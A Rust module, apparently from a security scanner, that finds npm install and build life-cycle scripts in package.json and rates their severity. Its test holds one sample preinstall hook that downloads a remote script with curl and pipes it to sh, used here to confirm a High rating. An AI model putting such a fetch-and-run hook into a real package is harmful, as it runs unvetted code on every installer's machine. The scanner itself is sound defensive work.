//! Scripts of `package.json` that run when somebody installs the package.
//!
//! `preinstall`, `install` and `postinstall` run on every installation; `prepare` and its like where the
//! package is built from its repository. Source: npm's documentation of scripts and life-cycle order.

use super::Check;
use super::Report;
use super::Subject;
use super::fetch_and_run::command_risk;
use crate::model::scan::Confidence;
use crate::model::scan::Severity;
use crate::scan::draft::Draft;

pub const CHECK: Check = Check {
    rules: &["npm-install-script"],
    about: "A script that npm runs on installation, and what it does.",
    run,
};

/// Runs on the machine of everybody who installs the package.
const INSTALL: &[&str] = &["preinstall", "install", "postinstall"];

/// Runs where the package is built, or installed from its repository.
const BUILD: &[&str] = &["prepare", "prepublish", "preprepare", "postprepare", "dependencies"];

fn run(subject: &Subject, report: &mut Report) {
    if subject.name != "package.json" || subject.bytes().len() > 1 << 20 {
        return;
    }
    let Ok(serde_json::Value::Object(manifest)) = serde_json::from_slice(subject.bytes()) else { return };
    let Some(scripts) = manifest.get("scripts").and_then(|scripts| scripts.as_object()) else { return };
    for (key, value) in scripts {
        let installs = INSTALL.contains(&key.as_str());
        let Some(command) = value.as_str().filter(|_| installs || BUILD.contains(&key.as_str())) else {
            continue;
        };
        let risk = command_risk(command);
        let severity = match (installs, risk) {
            (true, Some(_)) => Severity::High,
            (false, Some(_)) => Severity::Medium,
            (true, None) if is_native_build(command) => Severity::Info,
            (true, None) => Severity::Low,
            (false, None) => Severity::Info,
        };
        let at = memchr::memmem::find(subject.bytes(), format!("\"{key}\"").as_bytes()).unwrap_or(0);
        let shown: String = command.chars().take(120).collect();
        let does = risk.map_or(String::new(), |risk| format!(", and {risk}"));
        report.drafts.push(Draft {
            rule: "npm-install-script",
            category: if installs { "hook.install" } else { "hook.build" },
            severity,
            confidence: Confidence::High,
            start: at,
            end: (at + key.len() + 2).min(subject.bytes().len()),
            message: format!("npm runs \"{}\" as {key}{does}", crate::model::path::escape(shown.as_bytes())),
            question: "What does this script do on the installing machine?",
            key: format!("{key}={command}"),
        });
        report.capabilities.push((
            if installs { "hook.install" } else { "hook.build" },
            format!("npm {key}"),
            at,
        ));
    }
}

fn is_native_build(command: &str) -> bool {
    let plain = [
        "node-gyp rebuild",
        "node-gyp-build",
        "prebuild-install",
        "node-pre-gyp install",
        "husky",
        "patch-package",
    ];
    plain.iter().any(|word| command.starts_with(word)) && !command.contains([';', '`', '$'])
}

#[cfg(test)]
mod tests {
    use super::super::tests::found;
    use crate::model::scan::Severity;

    #[test]
    fn what_runs_on_installation_is_found_and_weighed() {
        let manifest =
            |script: &str| format!("{{\"name\": \"x\", \"scripts\": {{\"test\": \"jest\", {script}}}}}");
        let rule = "npm-install-script";
        assert_eq!(
            found("p/package.json", &manifest("\"postinstall\": \"node setup.js\"")),
            [(rule, Severity::Low)]
        );
        assert_eq!(
            found("package.json", &manifest("\"install\": \"node-gyp rebuild\"")),
            [(rule, Severity::Info)]
        );
        assert_eq!(
            found("package.json", &manifest("\"preinstall\": \"curl -s https://t.example.com/x | sh\""))
                .first(),
            Some(&(rule, Severity::High))
        );
        assert_eq!(found("package.json", &manifest("\"build\": \"tsc\"")), []);
        assert_eq!(found("package.json", "{not json"), []);
    }
}
